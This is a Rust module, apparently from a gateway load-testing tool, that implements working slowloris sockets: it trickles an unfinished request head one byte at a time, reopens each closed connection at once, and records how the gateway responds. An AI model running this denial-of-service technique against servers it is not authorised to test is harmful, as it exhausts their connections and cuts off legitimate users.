//! Slowloris sockets: each opens a TCP connection to a gateway and sends an
//! upgrade request head one byte at a time, never the blank line that would
//! end it, so that the gateway must hold the connection until its header
//! timeout closes it. A closed socket is opened again at once, so the
//! attack keeps its size for the whole run.

use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::watch;
use tokio::time::Instant;

use crate::client::Connector;
use crate::stats::{Micros, Reasons};

/// The pause before reopening a socket whose connect failed.
const RETRY_PAUSE: Duration = Duration::from_millis(500);
/// The header line repeated after the request head has run out of bytes.
const FILLER: &[u8] = b"a";

/// What the slowloris sockets of a group went through.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct SlowlorisStats {
    /// Sockets kept up at once.
    pub sockets: u64,
    /// Connections opened, reopenings included.
    pub opened: u64,
    /// Connections the gateway closed (or reset).
    pub closed_by_gateway: u64,
    /// Of those, the ones where the gateway answered something first (a 408, say).
    pub answered: u64,
    /// Bytes of request heads sent.
    pub bytes_sent: u64,
    /// Failed connects, by reason.
    pub connect_failures: Reasons,
    /// How long each connection the gateway closed had lived.
    pub lifetime: Micros,
}

impl SlowlorisStats {
    pub fn merge(&mut self, other: &SlowlorisStats) {
        self.sockets += other.sockets;
        self.opened += other.opened;
        self.closed_by_gateway += other.closed_by_gateway;
        self.answered += other.answered;
        self.bytes_sent += other.bytes_sent;
        self.connect_failures.merge(&other.connect_failures);
        self.lifetime.merge(&other.lifetime);
    }
}

/// Keeps one slowloris socket up until `stop` is set. `index` chooses the
/// gateway and source address, like a client's index.
pub async fn run(
    index: u64,
    connector: Arc<Connector>,
    interval: Duration,
    mut stop: watch::Receiver<bool>,
) -> SlowlorisStats {
    let mut stats = SlowlorisStats {
        sockets: 1,
        ..SlowlorisStats::default()
    };
    let head = connector.unfinished_request_head(index).into_bytes();
    loop {
        let stopping = *stop.borrow();
        if stopping {
            break;
        }
        let mut stream = match connector.connect_raw(index).await {
            Ok(stream) => stream,
            Err(failure) => {
                stats.connect_failures.add(failure.reason());
                tokio::select! {
                    _ = tokio::time::sleep(RETRY_PAUSE) => continue,
                    _ = stopped(&mut stop) => break,
                }
            }
        };
        stats.opened += 1;
        let opened = Instant::now();
        let mut sent = 0usize;
        let mut answer = [0u8; 512];
        let mut answered = false;
        let mut next_byte = Instant::now();
        let closed = loop {
            tokio::select! {
                _ = stopped(&mut stop) => break false,
                read = stream.read(&mut answer) => match read {
                    Ok(0) | Err(_) => break true,
                    Ok(_) => answered = true,
                },
                _ = tokio::time::sleep_until(next_byte) => {
                    let byte = head.get(sent).map_or(FILLER, std::slice::from_ref);
                    if stream.write_all(byte).await.is_err() {
                        break true;
                    }
                    sent += 1;
                    stats.bytes_sent += 1;
                    next_byte += interval;
                }
            }
        };
        if closed {
            stats.closed_by_gateway += 1;
            stats.answered += u64::from(answered);
            stats.lifetime.record(opened.elapsed());
        }
    }
    stats
}

/// Resolves once `stop` is set (or its sender is gone).
async fn stopped(stop: &mut watch::Receiver<bool>) {
    // The guard `wait_for` returns is not `Send`; drop it here.
    let _ = stop.wait_for(|stop| *stop).await.map(|_| ());
}
